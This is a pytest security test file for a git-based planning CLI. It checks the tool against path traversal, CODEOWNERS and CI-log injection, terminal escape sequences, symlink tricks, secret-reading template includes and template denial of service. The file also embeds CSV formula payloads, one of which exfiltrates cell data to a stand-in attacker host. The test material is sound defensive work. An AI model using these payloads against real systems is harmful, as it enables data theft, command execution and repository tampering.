"""Issue 12: everything in a pull request is hostile input, and CI runs it.

One test (or a small table of them) per attack in the issue, named after the attack; each was
reproduced on the code before its fix and fails there. SECURITY.md gives the threat model.
"""

from __future__ import annotations

import csv
import datetime as dt
import difflib
import io
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import typer
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from lcrplan.cli import app
from lcrplan.core import models as m
from lcrplan.core.model_base import Model
from lcrplan.loader import load as load_module

from .conftest import MINIMAL, REPO, git, symlink, theme_file, write_tree
from .helpers.datasets import BEFORE

AS_OF = "2026-12-15"  # g1 (due 2026-11-30) is overdue


def data_with(tmp_path: Path, files: dict[str, str | bytes] | None = None) -> Path:
    """A valid data directory at tmp_path/data (test_diff's, with goals g1-g4), plus `files`."""
    return write_tree(tmp_path / "data", {**BEFORE, **(files or {})})


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    data_with(root)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return root


# --- 1. diff writes files anywhere -----------------------------------------------------------


def _tree_with(repo: Path, entries: list[str], blob: str) -> str:
    """A tree holding `blob` at the path made of `entries` (each one tree entry name)."""
    tree = git(repo, "mktree", stdin=f"100644 blob {blob}\t{entries[-1]}\n")
    for name in reversed(entries[:-1]):
        tree = git(repo, "mktree", stdin=f"040000 tree {tree}\t{name}\n")
    return tree


def _evil_branch(repo: Path, path_in_data: list[str]) -> None:
    """Branch `evil`: main's data/ plus a YAML blob at data/<path_in_data>, via `git mktree`."""
    blob = git(repo, "hash-object", "-w", "--stdin", stdin="boards: []\n")
    evil = _tree_with(repo, path_in_data, blob)
    data_listing = git(repo, "ls-tree", "main:data")
    data_tree = git(
        repo, "mktree", stdin=f"{data_listing}\n040000 tree {evil}\t{path_in_data[0]}\n"
    )
    root = git(repo, "mktree", stdin=f"040000 tree {data_tree}\tdata\n")
    commit = git(repo, "commit-tree", root, "-p", "main", "-m", "evil")
    git(repo, "branch", "evil", commit)


def test_diff_tree_entry_with_dotdot_writes_nothing_outside_export(run, repo, tmp_path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    # data/../../(...)/<tmp_path>/victim/PWNED.yaml: enough '..' to reach / from any temp folder
    _evil_branch(repo, [".."] * 40 + [*victim.parts[1:], "PWNED.yaml"])
    result = run("diff", "main", "evil", "--data", repo / "data")
    assert result.exit_code == 2, result.output
    assert "unsafe path" in result.stderr
    assert "'..'" in result.stderr
    assert list(victim.iterdir()) == []


@pytest.mark.parametrize("name", ["a\\..\\..\\evil.yaml", "c:evil.yaml", "."])
def test_diff_tree_entry_a_windows_path_would_read_as_traversal_is_refused(run, repo, name) -> None:
    _evil_branch(repo, [name, "evil.yaml"] if name == "." else [name])
    result = run("diff", "main", "evil", "--data", repo / "data")
    assert result.exit_code == 2, result.output
    assert "unsafe path" in result.stderr


# --- 2. CODEOWNERS injection -----------------------------------------------------------------

OWNED = {"sources.yaml": MINIMAL["sources.yaml"].replace("Ann Chair", '"Jane Doe\\n* @attacker"')}


def test_person_name_with_newline_cannot_inject_a_codeowners_rule(run, tmp_path) -> None:
    data = data_with(tmp_path, OWNED)
    result = run("validate", "--data", data)
    assert result.exit_code == 1, result.output
    assert result.stdout.startswith(
        "data/sources.yaml:10:11: error: person chair: name: control character U+000A (line "
        "feed) is not allowed here (a name or title is one line of plain text: remove it) "
        "[LCR208]\n"
    )
    result = run("codeowners", "--data", data)
    assert result.exit_code == 1
    assert "* @attacker" not in result.stdout.splitlines()


def test_data_file_named_with_newline_cannot_inject_a_codeowners_rule(run, tmp_path) -> None:
    data = data_with(tmp_path)
    _give_handle(data)
    other = theme_file("- id: g9\n  title: Other\n  source: {document: doc}\n", "other")
    (data / "t\n* @attacker\nx.yaml").write_text(other)
    result = run("codeowners", "--data", data)
    assert result.exit_code == 1, result.output
    assert "* @attacker" not in result.stdout.splitlines()
    assert "data/t\\n* @attacker\\nx.yaml: error: file name has a control character U+000A" in (
        result.stderr
    )


@pytest.mark.parametrize(
    "field, value, where, char",
    [
        ("title", '"Evil\\e[2J"', "goal g1: title", "U+001B (escape)"),
        ("title", '"Evil\\0"', "goal g1: title", "U+0000 (null)"),
        ("title", '"abc\u202egnp.exe"', "goal g1: title", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
        ("title", '"x\u2066y"', "goal g1: title", "U+2066 (LEFT-TO-RIGHT ISOLATE)"),
        ("title", '"x\\ty"', "goal g1: title", "U+0009 (tab)"),
        ("description", '"line\\rbreak"', "goal g1: description", "U+000D (carriage return)"),
        ("note", '"one\\n::error::x\\e[31m"', "goal g1: note", "U+001B (escape)"),
    ],
)
def test_text_fields_refuse_control_and_bidi_characters(
    run, tmp_path, field, value, where, char
) -> None:
    goal = f"- id: g1\n  {field}: {value}\n  source: {{document: doc}}\n"
    if field != "title":
        goal += "  title: A goal\n"
    data = data_with(tmp_path, {"theme.yaml": theme_file(goal)})
    result = run("validate", "--data", data, "--quiet")
    assert result.exit_code == 1, result.output
    line = result.stdout.splitlines()[0]
    assert line.startswith("data/theme.yaml:9:")
    assert f"error: {where}: control character {char} is not allowed here (" in line


def test_multi_line_text_keeps_its_newlines(run, tmp_path) -> None:
    goal = '- id: g1\n  title: A goal\n  description: "first line\\nsecond line"\n'
    goal += "  source: {document: doc}\n"
    data = data_with(tmp_path, {"theme.yaml": theme_file(goal)})
    result = run("validate", "--data", data, "--quiet")
    assert result.exit_code == 0, result.output


def test_codeowners_path_with_glob_characters_is_not_a_pattern(run, tmp_path) -> None:
    data = data_with(tmp_path)
    _give_handle(data)
    (data / "theme.yaml").rename(data / "*.yaml")
    (data / "plan.yaml").rename(data / "my plan.yaml")
    result = run("codeowners", "--data", data)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert "/data/my\\ plan.yaml @ann" in lines
    assert not any(line.startswith("/data/*") for line in lines)
    assert "# /data/*.yaml: a CODEOWNERS path cannot name this file literally (rename it " in (
        result.stdout
    )


def _give_handle(data: Path) -> None:
    """The chair gets a GitHub handle, so files owned through the group get a CODEOWNERS rule."""
    sources = data / "sources.yaml"
    sources.write_text(
        sources.read_text().replace("name: Ann Chair", "name: Ann Chair\n    github: ann")
    )


# --- 3. terminal and CI-log injection --------------------------------------------------------

HOSTILE = "Evil\x1b[2J\x1b]8;;http://x\x07link\r\n::error file=a.yaml::pwned\n* @attacker\u202egnp"
WORKFLOW_LINE = re.compile(r"^\s*(::|##\[)")


def assert_safe(output: str) -> None:
    """No escape sequence, carriage return, bell or bidi override; no line a CI runner obeys."""
    for bad in ("\x1b", "\r", "\x07", "\u202e"):
        assert bad not in output, repr(output)
    for line in output.splitlines():
        assert not WORKFLOW_LINE.match(line), line
        assert line != "* @attacker"


def test_title_with_workflow_command_is_refused_on_input(run, tmp_path) -> None:
    goal = '- id: g1\n  title: "A goal\\n::error file=x.yaml::pwned"\n  source: {document: doc}\n'
    data = data_with(tmp_path, {"theme.yaml": theme_file(goal)})
    result = run("overdue", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 1
    assert_safe(result.output)
    assert "control character U+000A (line feed) is not allowed here" in result.stderr


@pytest.fixture
def hostile_text(monkeypatch):
    """Every title and name as HOSTILE, as if it had bypassed validation (say, a stale cache)."""
    real = load_module.validate_file

    def dirty(model):
        if isinstance(model, (m.Goal, m.NumericKpi, m.MilestoneKpi, m.Theme, m.Plan)):
            update = {"title": HOSTILE}
        elif isinstance(model, (m.Board, m.Group, m.Person)):
            update = {"name": HOSTILE}
        else:
            update = {}
        for name in type(model).field_types():
            value = getattr(model, name)
            if isinstance(value, Model):
                update[name] = dirty(value)
            elif isinstance(value, list) and value and isinstance(value[0], Model):
                update[name] = [dirty(v) for v in value]
        return model.model_copy(update=update)

    def validate_file(path, rel, limits):
        result = real(path, rel, limits)
        if result.model is not None:
            result.model = dirty(result.model)
        return result

    monkeypatch.setattr(load_module, "validate_file", validate_file)


@pytest.mark.parametrize(
    "command",
    [
        ["status"],
        ["status", "--all"],
        ["overdue"],
        ["show", "g1"],
        ["show", "k1"],
        ["groups"],
        ["codeowners"],
    ],
)
def test_text_that_bypassed_validation_cannot_inject_terminal_or_ci_log_lines(
    run, tmp_path, hostile_text, command
) -> None:
    data = data_with(tmp_path)
    dated = [] if command[0] == "codeowners" else ["--as-of", AS_OF]
    result = run(*command, "--data", data, "--no-cache", *dated)
    assert result.exit_code == 0, result.output
    assert_safe(result.output)
    assert "Evil\\x1b[2J" in result.output  # shown, escaped, not dropped


def test_text_that_bypassed_validation_cannot_inject_lines_into_diff_text(
    run, tmp_path, hostile_text, repo
) -> None:
    theme = repo / "data" / "theme.yaml"
    theme.write_text(
        theme.read_text() + "  - id: g5\n    title: New\n    source: {document: doc}\n"
    )
    result = run("diff", "main", "--data", repo / "data", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert_safe(result.output)
    assert "`g5`" not in result.output and "g5 (goal): Evil\\x1b[2J" in result.output


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_file_name_with_escape_sequences_cannot_inject_into_validate_output(
    run, tmp_path, fmt
) -> None:
    data = data_with(tmp_path)
    (data / "x\x1b[2J\n::error file=a::pwned\u202e.yaml").write_text("boards: []\n")
    result = run("validate", "--data", data, "--format", fmt)
    assert result.exit_code == 1, result.output
    if fmt == "text":
        assert_safe(result.output)
    else:  # one workflow command per problem, and nothing else
        assert all(
            line.startswith(("::error file=", "::warning file="))
            for line in result.stdout.splitlines()
        )
        assert not any(c in result.stdout for c in "\x1b\r\u202e")
    assert "x\\x1b[2J\\n::error file=a::pwned\\u202e.yaml" in result.output.replace(
        "%3A", ":"
    ).replace("%2C", ",")


@pytest.mark.parametrize(
    "args",
    [
        ["record", "k1", "500", "--date", "2026-02-28", "--note", "\x1b[31mred"],
        ["record", "k1", "500", "--date", "2026-02-28", "--source", "a\u202eb"],
        ["done", "k2", "--date", "2026-02-28", "--note", "x\n::error::y"],
        ["set-state", "g1", "paused", "--reason", "why\rnot"],
    ],
)
def test_edit_options_with_control_characters_are_refused(run, tmp_path, args) -> None:
    data = data_with(tmp_path)
    before = (data / "theme.yaml").read_bytes()
    result = run(*args, "--data", data)
    assert result.exit_code == 2, result.output
    assert "control character" in result.output
    assert_safe(result.output)
    assert (data / "theme.yaml").read_bytes() == before


# --- 4. CSV formula injection ----------------------------------------------------------------


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_starting_with_formula_characters_are_neutralised(run, tmp_path) -> None:
    goals = """
        - id: g1
          title: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
          due: 2026-11-30
          source: {document: doc}
          kpis:
            - id: k1
              kind: numeric
              title: "+cmd|' /C calc'!A0"
              target: -10
              direction: decrease
              unit: "@SUM(A1:A9)"
              baseline: {value: 0, date: 2025-01-01}
              source: {document: doc}
              measurements:
                - {date: 2026-01-31, value: -2.5}
        - id: g2
          title: "-2+3"
          source: {document: doc}
        """
    data = data_with(tmp_path, {"theme.yaml": theme_file(goals)})
    text = data / "sources.yaml"
    text.write_text(text.read_text().replace("name: The Board", "name: '=1+1'"))
    result = run("status", "--data", data, "--as-of", AS_OF, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in _csv(result.stdout)}
    assert rows["g1"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows["k1"]["title"] == "'+cmd|' /C calc'!A0"
    assert rows["k1"]["target"] == "-10"  # a number stays a number
    assert rows["k1"]["target_text"] == "'-10 @SUM(A1:A9)"
    assert rows["k1"]["unit"] == "'@SUM(A1:A9)"
    assert rows["g2"]["title"] == "'-2+3"
    assert rows["k1"]["latest_value"] == "-2.5"  # a number stays a number
    assert float(rows["k1"]["progress"]) == pytest.approx(0.25)
    for row in rows.values():
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" or value in ("-2.5", "-10"), row
    result = run("groups", "--data", data, "--as-of", AS_OF, "--format", "csv")
    assert result.exit_code == 0, result.output
    board = _csv(result.stdout)[0]
    assert board["name"] == "'=1+1"
    assert board["items"] == "2"
    result = run("overdue", "--data", data, "--as-of", "2027-01-01", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert {r["title"][:2] for r in _csv(result.stdout)} <= {"'=", "'+", "'-"}


# --- 5. cache race -----------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["replaced", "rewritten in place"])
def test_file_replaced_during_its_read_is_not_cached_as_the_old_version(
    run, tmp_path, monkeypatch, how
) -> None:
    from lcrplan.source import yamlio

    data = data_with(tmp_path)
    theme = data / "theme.yaml"
    invalid = theme.read_text().replace("title: Engage people", "title: [not, text]")
    real = yamlio.parse
    done: list[bool] = []

    def parse_while_changed(text, rel, *limits):
        if rel == "data/theme.yaml" and not done:  # the file changes just after it was read
            done.append(True)
            if how == "replaced":
                tmp = theme.with_name("new.tmp")
                tmp.write_text(invalid)
                os.replace(tmp, theme)
            else:
                theme.write_text(invalid)
        return real(text, rel, *limits)

    monkeypatch.setattr(yamlio, "parse", parse_while_changed)
    assert run("validate", "--data", data).exit_code == 0  # the version that was read: valid
    result = run("validate", "--data", data)
    assert result.exit_code == 1, result.output
    assert "data/theme.yaml:" in result.stdout


# --- 6. templates read any file ----------------------------------------------------------------


def _report_repo(
    tmp_path: Path, monkeypatch, template: str, config: str = "templates: ../templates\n"
) -> Path:
    """A data repository whose templates folder overrides monthly.md.j2, as the current folder
    (template errors name files relative to it)."""
    monkeypatch.chdir(tmp_path)
    data = data_with(tmp_path, {"lcrplan.yaml": config})
    write_tree(tmp_path / "templates", {"monthly.md.j2": template})
    return data


def test_include_of_committed_symlink_to_a_secret_is_refused(run, tmp_path, monkeypatch) -> None:
    secret = tmp_path / "environ"
    secret.write_text("GITHUB_TOKEN=ghs_secret\n")
    data = _report_repo(tmp_path, monkeypatch, 'Report\n{% include "env" %}\n')
    symlink(tmp_path / "templates" / "env", secret)
    symlink(tmp_path / "templates" / "env.md.j2", secret)
    for name in ("env", "env.md.j2"):
        (tmp_path / "templates" / "monthly.md.j2").write_text(f'Report\n{{% include "{name}" %}}\n')
        result = run("report", "--data", data, "--as-of", AS_OF)
        assert result.exit_code == 1, result.output
        assert "ghs_secret" not in result.output
        assert "templates/monthly.md.j2:2:1: error: template error: template " in result.stderr
        assert "outside the template folders" in result.stderr or "not a .j2" in result.stderr


@pytest.mark.parametrize(
    "name, why",
    [
        (".git/config", "hidden"),
        ("secret.txt", "not a .j2 file"),
    ],
)
def test_include_of_a_file_that_is_not_a_template_is_refused(
    run, tmp_path, monkeypatch, name, why
) -> None:
    data = _report_repo(tmp_path, monkeypatch, f'Report\n{{% include "{name}" %}}\n')
    write_tree(tmp_path / "templates", {".git/config": "token=ghs_secret\n"})
    write_tree(tmp_path / "templates", {"secret.txt": "ghs_secret\n"})
    (tmp_path / "environ").write_text("ghs_secret\n")
    result = run("report", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    assert "ghs_secret" not in result.output
    assert why in result.stderr


@pytest.mark.parametrize("folder", ["/", "/proc/self", "../..", "../../.."])
def test_templates_setting_outside_the_repository_is_refused(
    run, tmp_path, monkeypatch, folder
) -> None:
    data = _report_repo(tmp_path, monkeypatch, "Report\n", f"templates: {folder}\n")
    result = run("report", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(
        f"data/lcrplan.yaml:1:12: error: templates folder '{folder}' is outside the data "
        "repository "
    )


def test_templates_inside_the_repository_still_work(run, tmp_path, monkeypatch) -> None:
    data = _report_repo(
        tmp_path, monkeypatch, 'Report for {{ report.period.month }}\n{% include "part.md.j2" %}'
    )
    write_tree(tmp_path / "templates", {"part.md.j2": "A part\n"})
    result = run("report", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert result.stdout == "Report for 2026-12\nA part\n"


# --- 7. valid data crashes reading commands ---------------------------------------------------

EXTREME = [
    0.0,
    1e-320,
    -1e-320,
    5e-324,
    1.0,
    -1.0,
    1e300,
    -1e300,
    1e308,
    -1e308,
    1.7976931348623157e308,
]
DAYS = [dt.date(2025, 1, 1), dt.date(2025, 6, 30), dt.date(2026, 1, 31)]


def _kpi_yaml(target, low_high, direction, method, baseline, measurements, due) -> str:
    target_text = f"{{low: {low_high[0]!r}, high: {low_high[1]!r}}}" if low_high else repr(target)
    lines = [
        "- id: g1",
        "  title: A goal",
        f"  due: {due}",
        "  source: {document: doc}",
        "  kpis:",
        "    - id: k1",
        "      kind: numeric",
        "      title: A KPI",
        f"      target: {target_text}",
        "      unit: things",
        f"      direction: {direction}",
        f"      method: {method}",
        "      source: {document: doc}",
    ]
    if baseline is not None:
        lines.append(f"      baseline: {{value: {baseline[0]!r}, date: {baseline[1]}}}")
    if measurements:
        lines.append("      measurements:")
        lines += [f"        - {{date: {d}, value: {v!r}}}" for d, v in measurements]
    lines += [
        "    - id: k2",
        "      kind: indicator",
        "      title: An indicator",
        f"      direction: {direction}",
        "      source: {document: doc}",
    ]
    if measurements:
        lines.append("      measurements:")
        lines += [f"        - {{date: {d}, value: {v!r}}}" for d, v in measurements]
    return "\n".join(lines) + "\n"


numbers = st.sampled_from(EXTREME)
days = st.sampled_from(DAYS)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    target=numbers,
    low_high=st.none() | st.tuples(numbers, numbers).map(sorted),
    direction=st.sampled_from(["increase", "decrease"]),
    method=st.sampled_from(["linear", "cagr"]),
    baseline=st.none() | st.tuples(numbers, days),
    measurements=st.lists(st.tuples(days, numbers), max_size=3).map(sorted),
    due=st.sampled_from([*DAYS, dt.date(2026, 12, 31)]),
)
@example(  # the first case: math domain error in pace
    target=1e-320,
    low_high=None,
    direction="decrease",
    method="cagr",
    baseline=(1e300, DAYS[0]),
    measurements=[(DAYS[1], 1e300)],
    due=dt.date(2026, 12, 31),
)
@example(  # the second case: the sparkline's NaN
    target=1e308,
    low_high=None,
    direction="increase",
    method="linear",
    baseline=(-1e308, DAYS[0]),
    measurements=[(DAYS[1], 1e308), (DAYS[2], -1e308)],
    due=dt.date(2026, 12, 31),
)
def test_extreme_finite_numbers_that_validate_never_crash_a_reading_command(
    run, target, low_high, direction, method, baseline, measurements, due
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        goal = _kpi_yaml(target, low_high, direction, method, baseline, measurements, due)
        data = write_tree(Path(tmp) / "data", {**MINIMAL, "theme.yaml": theme_file(goal)})
        if run("validate", "--data", data, "--no-cache").exit_code != 0:
            return
        for command in (
            ["status", "--as-of", AS_OF],
            ["status", "--as-of", AS_OF, "--format", "json"],
            ["overdue", "--as-of", AS_OF],
            ["show", "k1", "--as-of", AS_OF],
            ["show", "g1", "--as-of", AS_OF],
            ["report", "--as-of", AS_OF],
            ["report", "--month", "2026-01"],
        ):
            result = run(*command, "--data", data, "--no-cache")
            assert result.exit_code in (0, 1), (command, goal, result.output)


# --- 8. template resource limits ------------------------------------------------------------


@pytest.mark.parametrize(
    "template, message",
    [
        (
            "x\n{% for i in range(10**9) %}{% endfor %}",
            "template limit: range() of 1,000,000,000 items is over the limit of 10,000",
        ),
        (
            "x\n{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
            "template limit: calls nested deeper than 100",
        ),
        (
            'x\n{% set ns = namespace(s="x") %}{% for i in range(64) %}'
            "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
            "template limit: text of 16,777,216 characters is over the limit of 10,000,000",
        ),
        (
            "x\n{{ 'x' * 10**10 }}",
            "template limit: text of 10,000,000,000 characters is over the limit of 10,000,000",
        ),
        (
            "x\n{% for i in range(10000) %}{{ 'x' * 5000 }}{% endfor %}",
            "template limit: the report is over the limit of 10,000,000 characters",
        ),
        (
            "x\n{% set big = 7 ** 100000000 %}",
            "template limit: a number that large is over the limit",
        ),
        (
            "x\n{% for i in range(10000) %}{% for j in range(10000) %}{% for k in range(10000) %}"
            "{% endfor %}{% endfor %}{% endfor %}",
            "template limit: rendering took over 0.5 seconds",
        ),
        (
            "x\n{% set r = [1] * 10000 %}{% for i in r %}{% for j in r %}{% for k in r %}"
            "{% endfor %}{% endfor %}{% endfor %}",
            "template limit: rendering took over 0.5 seconds",
        ),
    ],
    ids=[
        "huge-range",
        "recursive-macro",
        "doubling",
        "repeat",
        "output",
        "power",
        "nested-ranges",
        "nested-lists",
    ],
)
def test_template_that_exhausts_time_or_memory_stops_with_a_located_error(
    run, tmp_path, monkeypatch, template, message
) -> None:
    from lcrplan.emit import sandbox

    monkeypatch.setattr(sandbox, "MAX_SECONDS", 0.5)
    data = _report_repo(tmp_path, monkeypatch, template)
    result = run("report", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("templates/monthly.md.j2:2:1: error: " + message), result.stderr


# --- 9. report --output ------------------------------------------------------------------------


def test_report_output_through_a_committed_symlink_does_not_overwrite_its_target(
    run, tmp_path
) -> None:
    data = data_with(tmp_path)
    readme = tmp_path / "README.md"
    readme.write_text("# The real README\n")
    (tmp_path / "reports").mkdir()
    symlink(tmp_path / "reports" / "2026-02.md", "../README.md")
    out = tmp_path / "reports" / "{month}.md"
    result = run("report", "--data", data, "--month", "2026-02", "--output", out)
    assert result.exit_code == 2, result.output
    assert "is a symbolic link" in result.stderr
    assert readme.read_text() == "# The real README\n"


@pytest.mark.parametrize("target", ["folder", "", "/dev/full", "/dev/null"])
def test_report_output_that_is_not_a_regular_file_is_a_usage_error(run, tmp_path, target) -> None:
    data = data_with(tmp_path)
    if target == "folder":
        target = str(tmp_path / "folder")
        Path(target).mkdir()
    result = run("report", "--data", data, "--as-of", AS_OF, "--output", target)
    assert result.exit_code == 2, result.output
    assert "internal error" not in result.output


def test_report_output_on_a_full_disk_keeps_the_old_report_whole(
    run, tmp_path, monkeypatch
) -> None:
    data = data_with(tmp_path)
    out = tmp_path / "reports" / "2026-03.md"
    out.parent.mkdir()
    out.write_text("last month's report\n")

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    result = run("report", "--data", data, "--as-of", AS_OF, "--output", out)
    assert result.exit_code == 1, result.output
    assert "cannot write the report: No space left on device" in result.stderr
    assert out.read_text() == "last month's report\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["2026-03.md"]


def test_report_output_is_replaced_atomically(run, tmp_path) -> None:
    data = data_with(tmp_path)
    out = tmp_path / "reports" / "2026-03.md"
    out.parent.mkdir()
    out.write_text("old\n")
    inode = out.stat().st_ino
    result = run("report", "--data", data, "--as-of", AS_OF, "--output", out)
    assert result.exit_code == 0, result.output
    assert out.read_text().startswith("# ")
    assert out.stat().st_ino != inode  # a new file renamed over the old one, not truncated
    assert sorted(p.name for p in out.parent.iterdir()) == ["2026-03.md"]


# --- 10. temporary and lock files ---------------------------------------------------------------


def test_record_on_a_full_disk_leaves_no_temporary_file(run, tmp_path, monkeypatch) -> None:
    data = data_with(tmp_path)
    before = (data / "theme.yaml").read_bytes()

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    result = run("record", "k1", "500", "--date", "2026-02-28", "--data", data)
    assert result.exit_code == 1, result.output
    assert "cannot write the file: No space left on device" in result.stderr
    assert (data / "theme.yaml").read_bytes() == before
    assert not [p.name for p in data.iterdir() if p.name.endswith(".tmp")]


def test_lock_files_left_by_a_killed_writer_are_git_ignored(run, tmp_path) -> None:
    ignored = subprocess.run(
        ["git", "-C", str(REPO), "check-ignore", "--no-index", "-q", "data/x/.theme.yaml.lock"],
        check=False,
    )
    assert ignored.returncode == 0, "this repository's .gitignore must ignore .*.lock"
    target = tmp_path / "new"
    assert run("init", target).exit_code == 0
    git(target, "init", "-q")
    lock = target / "data" / "example" / ".skills.yaml.lock"
    lock.write_text("")
    assert git(target, "status", "--porcelain", "--untracked-files=all").find(".lock") == -1


# --- 11. did-you-mean is quadratic -------------------------------------------------------------


def test_unknown_reference_suggestions_compare_a_bounded_number_of_ids(monkeypatch) -> None:
    from lcrplan.core.problems import NearestWords

    ids = [f"culture-goal-{i:05d}" for i in range(50_000)]
    compared = []
    real = difflib.SequenceMatcher.set_seq1

    def counting(self, a):
        compared.append(a)
        return real(self, a)

    monkeypatch.setattr(difflib.SequenceMatcher, "set_seq1", counting)
    words = NearestWords(ids)
    for i in range(0, 50_000, 997):
        compared.clear()
        typo = f"culture-gaol-{i:05d}"
        assert words.nearest(typo)[0] == f"culture-goal-{i:05d}"
        assert len(compared) <= 200


def test_many_unknown_parents_still_get_their_nearest_id(run, tmp_path) -> None:
    goals = "".join(
        f"- id: goal-{i:04d}\n  title: Goal {i}\n  parent: gaol-{(i * 7) % 300:04d}\n"
        "  source: {document: doc}\n"
        for i in range(300)
    )
    data = data_with(tmp_path, {"theme.yaml": theme_file(goals)})
    result = run("validate", "--data", data, "--quiet")
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert len(lines) == 300
    assert lines[1].startswith(
        "data/theme.yaml:14:13: error: goal goal-0001: unknown goal 'gaol-0007' "
        "(did you mean 'goal-0007' or "
    )
    for line in lines:  # the nearest id first, every time
        typo = re.search(r"unknown goal '(gaol-\d+)'", line)
        assert typo and f"(did you mean '{typo.group(1).replace('gaol', 'goal')}'" in line, line


# --- 12. exit 3 from CLI input ----------------------------------------------------------------


@pytest.mark.parametrize("month", ["9999-12", "0001-01", "1899-12"])
def test_report_month_out_of_range_is_a_usage_error(run, tmp_path, month) -> None:
    data = data_with(tmp_path)
    result = run("report", "--data", data, "--month", month)
    assert result.exit_code == 2, result.output
    assert "use a year from 1900 to" in result.output


def test_record_note_with_an_undecodable_byte_is_a_usage_error(tmp_path) -> None:
    data = data_with(tmp_path)
    before = (data / "theme.yaml").read_bytes()
    argv = [sys.executable, "-m", "lcrplan", "record", "k1", "500", "--date", "2026-02-28"]
    done = subprocess.run(
        [*argv, "--data", str(data), "--note", b"caf\xff"],
        capture_output=True,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert b"is not valid UTF-8" in done.stderr
    assert (data / "theme.yaml").read_bytes() == before


# --- 13. committed symlinks -----------------------------------------------------------------


def test_committed_symlink_for_the_cache_folder_is_not_written_through(run, tmp_path) -> None:
    data = data_with(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    symlink(data / ".lcrplan-cache", elsewhere)
    result = run("status", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert list(elsewhere.iterdir()) == []


def test_committed_symlink_for_a_cache_file_is_not_written_through(run, tmp_path) -> None:
    data = data_with(tmp_path)
    (data / ".lcrplan-cache").mkdir()
    for name in (
        "files.bin",
        "files.json",
        ".gitignore",
        "ids.json",
    ):  # dangling: open() would create them
        symlink(data / ".lcrplan-cache" / name, tmp_path / f"victim-{name}")
    result = run("status", "--data", data, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


def test_committed_symlink_for_a_lock_file_is_not_followed(run, tmp_path) -> None:
    data = data_with(tmp_path)
    victim = tmp_path / "victim.txt"
    symlink(data / ".theme.yaml.lock", victim)
    before = (data / "theme.yaml").read_bytes()
    result = run("record", "k1", "500", "--date", "2026-02-28", "--data", data)
    assert result.exit_code == 1, result.output
    assert "lock file is a symbolic link" in result.stderr
    assert not victim.exists()
    assert (data / "theme.yaml").read_bytes() == before


def test_init_force_writes_nothing_through_committed_symlinks(run, tmp_path) -> None:
    target = tmp_path / "repo"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    target.mkdir()
    symlink(target / ".pre-commit-config.yaml", tmp_path / "victim.yaml")  # dangling
    symlink(target / "templates", elsewhere)
    result = run("init", target, "--force")
    assert result.exit_code == 1, result.output
    assert not (tmp_path / "victim.yaml").exists()
    assert list(elsewhere.iterdir()) == []
    assert "nothing was done" not in result.output
    assert "kept     " + str(target / ".pre-commit-config.yaml") + " (a symbolic link" in (
        result.stdout
    )
    assert (target / "data" / "lcrplan.yaml").is_file()
    assert f"{target / 'templates'}: not followed: a symbolic link" in result.stderr


# --- 14. %YAML 1.1 ------------------------------------------------------------------------------


def test_yaml_1_1_directive_is_refused_by_reader_and_writer(run, tmp_path) -> None:
    data = data_with(tmp_path)
    theme = data / "theme.yaml"
    text = "%YAML 1.1\n---\n" + theme.read_text().replace("title: A theme", "title: on")
    theme.write_text(text)
    result = run("validate", "--data", data, "--quiet")
    assert result.exit_code == 1, result.output
    expected = (
        "data/theme.yaml:1:1: error: '%YAML 1.1' directive: data files are read as YAML 1.2 "
        "(delete the line; YAML 1.2 is what both the reader and the writer follow) [LCR106]"
    )
    assert result.stdout.splitlines() == [expected]
    from lcrplan.edits import file_edit

    with pytest.raises(Exception) as raised:
        file_edit.add_measurement(
            text, "data/theme.yaml", "k1", {"date": dt.date(2026, 2, 1), "value": 1}, False
        )
    assert expected in str(raised.value)


def test_yaml_1_2_directive_is_accepted(run, tmp_path) -> None:
    data = data_with(tmp_path)
    theme = data / "theme.yaml"
    theme.write_text("%YAML 1.2\n---\n" + theme.read_text())
    result = run("validate", "--data", data, "--quiet")
    assert result.exit_code == 0, result.output


# --- 15. --format is a choice everywhere -------------------------------------------------------


def test_show_format_xml_is_a_usage_error(run, tmp_path) -> None:
    data = data_with(tmp_path)
    result = run("show", "g1", "--data", data, "--format", "xml")
    assert result.exit_code == 2, result.output
    assert "'xml' is not one of" in result.output


def test_every_format_option_is_a_validated_choice(run) -> None:
    group = typer.main.get_command(app)
    checked = []
